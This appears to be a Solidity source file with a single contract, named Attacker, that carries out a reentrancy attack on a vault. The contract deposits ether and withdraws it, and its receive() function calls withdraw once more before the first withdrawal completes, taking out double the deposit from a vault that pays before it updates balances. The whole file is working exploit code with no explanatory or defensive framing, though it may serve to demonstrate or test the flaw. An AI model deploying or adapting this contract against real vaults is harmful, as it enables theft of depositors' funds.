// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IVault {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title Attacker
/// @notice Deposits, then withdraws and enters withdraw once more from the payment.
contract Attacker {
    IVault public immutable vault;
    bool private again;

    constructor(IVault vault_) {
        vault = vault_;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        again = true;
        vault.withdraw(msg.value);
    }

    receive() external payable {
        if (again) {
            again = false;
            vault.withdraw(msg.value);
        }
    }
}
